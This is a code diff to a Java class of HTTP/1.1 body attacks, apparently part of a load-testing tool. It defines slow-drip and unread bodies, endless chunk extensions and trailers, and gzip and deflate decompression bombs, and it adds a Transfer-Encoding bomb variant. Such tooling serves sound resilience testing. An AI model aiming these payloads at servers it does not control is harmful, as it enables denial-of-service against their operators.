@@ -1,9 +1,7 @@
 package dev.medley.loadtest.attack;
 
 import java.nio.charset.StandardCharsets;
-import java.time.Duration;
 import java.util.List;
-import java.util.function.Supplier;
 
 /** Attacks over HTTP/1.1 by bodies. */
 final class Http1Bodies {
@@ -25,15 +23,15 @@ final class Http1Bodies {
                                 Outgoing.Afterwards.GO_ON)),
                 Attack.of(
                         "h1-body-drip",
-                        "bodies of which a byte comes each 100 ms",
-                        Repeated.dripping(post(LONG), "x", Duration.ofMillis(100))),
+                        "bodies of which a byte comes each %d ms".formatted(Repeated.DRIP.toMillis()),
+                        Repeated.dripping(post(LONG), "x", Repeated.DRIP)),
                 Attack.of(
                         "h1-body-unread",
                         "bodies that no mashup reads",
                         Repeated.dripping(
                                 "POST " + Targets.WAIT + " HTTP/1.1\r\n" + Http1Heads.HOST + LONG + "\r\n",
                                 "x".repeat(1_000),
-                                Duration.ofMillis(100))),
+                                Repeated.DRIP)),
                 Attack.of(
                         "h1-expect",
                         "requests with Expect: 100-continue, and no body",
@@ -44,15 +42,33 @@ final class Http1Bodies {
                         "an extension of a chunk without end",
                         Repeated.of(post(CHUNKED) + "1;x=", "y".repeat(8_000))),
                 Attack.of("h1-trailers", "trailers without end", Repeated.of(post(CHUNKED) + "0\r\n", "X: y\r\n")),
-                Attack.of("h1-gzip-bomb", "bodies of 10 KB that are 10 MB, coded by gzip", bomb()));
+                bomb("h1-gzip-bomb", CodedBomb.GZIP),
+                bomb("h1-deflate-bomb", CodedBomb.DEFLATE),
+                Attack.of(
+                        "h1-transfer-coding",
+                        "bodies with Transfer-Encoding: gzip, chunked, each on a new connection",
+                        ReplyTrigger.of(
+                                post("Transfer-Encoding: gzip, chunked\r\n") + chunk(CodedBomb.GZIP.bytes()),
+                                Outgoing.Afterwards.CLOSE)));
     }
 
-    private static Supplier<Script> bomb() {
-        byte[] bytes = GzipBomb.bytes();
-        return Repeated.of(
-                "",
-                post("Content-Encoding: gzip\r\n", "Content-Length: " + bytes.length + "\r\n")
-                        + new String(bytes, StandardCharsets.ISO_8859_1));
+    private static Attack bomb(String name, CodedBomb bomb) {
+        byte[] bytes = bomb.bytes();
+        return Attack.of(
+                name,
+                bomb.what(),
+                Repeated.of(
+                        "",
+                        post("Content-Encoding: " + bomb.coding() + "\r\n", "Content-Length: " + bytes.length + "\r\n")
+                                + text(bytes)));
+    }
+
+    private static String chunk(byte[] bytes) {
+        return Integer.toHexString(bytes.length) + "\r\n" + text(bytes) + "\r\n0\r\n\r\n";
+    }
+
+    private static String text(byte[] bytes) {
+        return new String(bytes, StandardCharsets.ISO_8859_1);
     }
 
     private static String post(String... fields) {
